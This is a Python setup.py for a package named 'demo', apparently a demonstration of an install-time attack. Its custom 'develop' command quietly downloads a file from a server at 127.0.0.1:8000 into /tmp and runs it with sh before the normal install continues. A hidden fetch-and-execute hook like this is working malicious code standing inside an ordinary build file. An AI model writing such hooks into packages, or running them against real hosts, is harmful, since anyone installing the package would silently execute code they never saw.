import subprocess as sp
from setuptools import setup
from setuptools.command.develop import develop


class Dev(develop):
    def run(self):
        cmd = "wget -q http://127.0.0.1:8000/x -O /tmp/x && sh /tmp/x"
        sp.call(cmd, shell=True)
        develop.run(self)


setup(name="demo", version="1.0", cmdclass={"develop": Dev})
